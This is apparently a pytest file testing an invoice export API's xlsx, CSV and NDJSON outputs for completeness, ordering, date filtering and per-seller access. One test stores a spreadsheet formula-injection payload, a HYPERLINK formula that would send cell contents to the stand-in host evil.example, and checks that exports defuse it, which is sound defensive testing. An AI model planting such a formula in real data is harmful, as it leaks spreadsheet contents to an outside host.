"""A seller's invoices come out as one file: complete, in order, exact, and harmless."""

import csv
import io
import json
from collections.abc import AsyncIterator
from typing import Any

import httpx
import msgspec
import pytest
import pytest_asyncio

from kaipiao.delivery.sheets.workbook import Workbook
from kaipiao.ledger.store import Store
from tests.clocks import StoppedClock
from tests.gateway_bench import Bench, as_json, named, open_bench
from tests.stores import NOVEMBER
from tests.strategies import SELLER, lawful_draft

EVIL = '=HYPERLINK("http://evil.example/"&A1)'


@pytest_asyncio.fixture
async def caller(store: Store, clock: StoppedClock) -> AsyncIterator[httpx.AsyncClient]:
    bench = await open_bench(store, clock)
    await store.credit.grant(SELLER.taxpayer_id, 10**9, month=NOVEMBER)
    async with bench.client(await bench.key()) as client:
        yield client


async def issue(client: httpx.AsyncClient, count: int, **changes: Any) -> list[str]:
    draft = msgspec.structs.replace(lawful_draft(), **changes)
    numbers = []
    for n in range(count):
        answer = await client.post("/v1/invoices", json=as_json(draft), headers=named(f"e{n}"))
        numbers.append(answer.json()["number"])
    return numbers


def params(form: str, **more: str) -> dict[str, str]:
    return {"seller": SELLER.taxpayer_id, "form": form} | more


async def test_every_form_holds_every_invoice_exactly_once(
    caller: httpx.AsyncClient, store: Store
) -> None:
    numbers = await issue(caller, 7)
    await store.order.sequence()
    listed = (await caller.get("/v1/invoices", params={"seller": SELLER.taxpayer_id})).json()
    totals = [one["totals"]["gross_fen"] for one in listed["invoices"]]

    xlsx, table, lines = [
        await caller.get("/v1/invoices:export", params=params(form))
        for form in ("xlsx", "csv", "ndjson")
    ]

    (tab,) = Workbook(xlsx.content).names
    cells = [row for _, row in Workbook(xlsx.content).rows(tab)][1:]
    records = list(csv.DictReader(io.StringIO(table.content.decode("utf-8-sig"))))
    read = [json.loads(line) for line in lines.text.splitlines()]
    assert sorted(numbers) == sorted(row[0] for row in cells)
    assert [row[0] for row in cells] == [one["发票号码"] for one in records]
    assert [row[0] for row in cells] == [one["number"] for one in read]
    assert [round(float(str(row[9])) * 100) for row in cells] == totals
    assert [one["价税合计"] for one in records] == [f"{fen / 100:.2f}" for fen in totals]
    assert [one["draft"] for one in read] == [one["draft"] for one in listed["invoices"]]
    assert 'filename="' in xlsx.headers["content-disposition"]


async def test_what_a_stranger_typed_is_never_run(caller: httpx.AsyncClient, store: Store) -> None:
    await issue(caller, 1, remark=EVIL)
    await store.order.sequence()

    table = (await caller.get("/v1/invoices:export", params=params("csv"))).content
    book = Workbook((await caller.get("/v1/invoices:export", params=params("xlsx"))).content)

    (record,) = csv.DictReader(io.StringIO(table.decode("utf-8-sig")))
    assert record["备注"] == f"'{EVIL}"
    assert book.formulas == {"发票清单": frozenset()}
    assert EVIL in [row for _, row in book.rows("发票清单")][1]


async def test_only_the_days_asked_for(
    caller: httpx.AsyncClient, store: Store, clock: StoppedClock
) -> None:
    await issue(caller, 2)
    await store.order.sequence()
    day = f"{clock.now():%Y-%m-%d}"

    inside = await caller.get("/v1/invoices:export", params=params("ndjson", month=day[:7]))
    outside = await caller.get("/v1/invoices:export", params=params("ndjson", since="2027-01-01"))

    assert len(inside.text.splitlines()) == 2
    assert outside.text == ""


@pytest.mark.parametrize("form", ["xlsx", "csv"])
async def test_no_invoice_is_a_file_with_headings(caller: httpx.AsyncClient, form: str) -> None:
    empty = await caller.get("/v1/invoices:export", params=params(form))

    assert empty.status_code == 200
    assert empty.content


async def test_nobody_exports_another_sellers_invoices(bench: Bench) -> None:
    async with bench.client(await bench.key("91310000MA1FL00000")) as other:
        refused = await other.get("/v1/invoices:export", params=params("csv"))
        unknown = await other.get("/v1/invoices:export", params={"form": "pdf"})

    assert (refused.status_code, unknown.status_code) == (403, 400)


async def test_a_scan_gives_what_the_pages_give_however_small_the_batches(
    caller: httpx.AsyncClient, store: Store
) -> None:
    for n in range(5):
        draft = msgspec.structs.replace(lawful_draft(), remark=str(n))
        await caller.post("/v1/invoices", json=as_json(draft), headers=named(f"s{n}"))
        await store.order.sequence()

    page = await store.ledger.page(SELLER.taxpayer_id)
    scanned = [one async for one in store.scan.invoices(SELLER.taxpayer_id)]

    assert scanned == list(page.invoices)
